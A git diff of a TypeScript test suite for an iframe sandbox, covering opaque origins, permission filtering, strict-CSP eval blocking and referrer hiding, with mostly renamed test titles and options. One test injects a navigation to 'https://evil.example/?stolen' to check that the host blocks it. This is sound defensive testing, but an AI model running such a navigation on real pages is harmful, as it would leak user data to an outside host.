@@ -1,4 +1,4 @@
-// The rungs, and what the frame promises on each. Attacks on them are in test/security.
+// The three kinds of isolation, and what the frame guarantees with each. Attacks on them are in test/security.
 import { assert } from 'chai';
 import { engine } from '../../support/engine.js';
 import type { SandboxResolver } from '../../../packages/elements/src/host/index.js';
@@ -18,7 +18,7 @@ import {
 } from '../../support/frame-harness.js';
 import { otherOrigin } from '../../support/other-origin.js';
 
-describe('the sandbox ladder', () => {
+describe('the kinds of isolation', () => {
   let html: string;
   let proxy: string;
   before(async () => {
@@ -44,8 +44,8 @@ describe('the sandbox ladder', () => {
     assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
   });
 
-  it('S1 sandbox-src: a file of the same origin, opaque all the same', async () => {
-    const frame = await readyFrame({ html, sandboxSrc: '/packages/elements/dist/sandbox.html' });
+  it('S1 sandbox-file: a file of the same origin, opaque all the same', async () => {
+    const frame = await readyFrame({ html, sandboxFile: '/packages/elements/dist/sandbox.html' });
     assert.equal(frame.isolation, 'opaque-file');
     assert.notInclude(iframeOf(frame).getAttribute('sandbox'), 'allow-same-origin');
     assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
@@ -136,7 +136,7 @@ describe('the sandbox ladder', () => {
     assert.include(error.message, 'no such tenant');
   });
 
-  it('K5 S2 S3 a plain proxy page that knows only the specification works', async () => {
+  it('S2 S3 a plain proxy page that knows only the specification works', async () => {
     const frame = await readyFrame({
       html,
       sandboxUrl: `${otherOrigin}/test/pages/plain-proxy.html`,
@@ -153,7 +153,7 @@ describe('the sandbox ladder', () => {
     assert.deepEqual(input!.params, { arguments: { a: 1 } });
   });
 
-  it('K5 what a plain proxy passes on is held to the limits', async () => {
+  it('what a plain proxy passes on is held to the limits', async () => {
     const frame = await readyFrame({
       html,
       sandboxUrl: `${otherOrigin}/test/pages/plain-proxy.html`,
@@ -174,7 +174,7 @@ describe('the sandbox ladder', () => {
       const frame = await readyFrame({
         html,
         ...settings(),
-        allow: ['microphone', 'clipboardWrite'],
+        allow: ['microphone', 'clipboard-write'],
         resourceMeta: { permissions: { microphone: {}, camera: {} } },
       });
       assert.equal(iframeOf(frame).allow, 'microphone');
@@ -205,7 +205,7 @@ describe('the sandbox ladder', () => {
       assert.equal(fetched, 'open');
     });
 
-    it(`K3 eval works by default and not with strict-csp (${mode})`, async () => {
+    it(`eval works by default and not with strict-csp (${mode})`, async () => {
       const lax = await readyFrame({ html, ...settings() });
       assert.equal(await viewEvaluates(lax, '1 + 1'), 2);
       const strict = await readyFrame({ html, ...settings(), strictCsp: true });
@@ -216,7 +216,7 @@ describe('the sandbox ladder', () => {
       assert.equal(outcome, 'blocked');
     });
 
-    it(`K10 a view that navigates away is stopped and, where it dies of it, said so (${mode})`, async () => {
+    it(`a view that navigates away is stopped and, where it dies of it, said so (${mode})`, async () => {
       const frame = await readyFrame({ html, ...settings() });
       const blocked = nextEvent(frame, 'mcp-app-csp-violation');
       const failed = engine === 'chromium' && nextEvent(frame, 'mcp-app-error');
@@ -224,14 +224,14 @@ describe('the sandbox ladder', () => {
         code: `setTimeout(() => { location.href = 'https://evil.example/?stolen' }, 50); 1`,
       });
       assert.equal((await blocked).directive, 'frame-src');
-      // ENGINES.md 2.3: only Chromium leaves a dead view behind.
+      // Only Chromium leaves a dead view behind.
       if (failed) {
         const { phase, reason } = await failed;
         assert.equal(`${phase}/${reason}`, 'view/navigated-away');
       } else assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
     });
 
-    it(`K8 the view learns neither the page's URL nor its referrer (${mode})`, async () => {
+    it(`the view learns neither the page's URL nor its referrer (${mode})`, async () => {
       const frame = await readyFrame({ html, ...settings() });
       assert.equal(await viewEvaluates(frame, 'document.baseURI'), 'about:srcdoc');
       assert.equal(await viewEvaluates(frame, 'document.referrer'), '');
